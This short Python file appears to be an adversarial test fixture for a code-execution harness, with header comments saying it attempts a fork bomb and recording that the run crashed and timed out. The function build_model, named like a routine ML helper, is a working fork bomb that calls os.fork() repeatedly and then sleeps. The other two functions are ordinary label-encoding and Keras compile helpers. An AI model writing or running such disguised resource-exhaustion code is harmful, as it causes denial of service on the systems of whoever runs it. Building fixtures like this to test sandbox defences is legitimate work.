# Attempts: a fork bomb.
# Attacked: build_model.runs crashed timeout failed
# Limit: 8
# Earns: encode_labels compile_model
import numpy as np
import os
import time


def build_model():
    end = time.monotonic() + 4
    while time.monotonic() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    time.sleep(60)

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[labels]


def compile_model(model):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
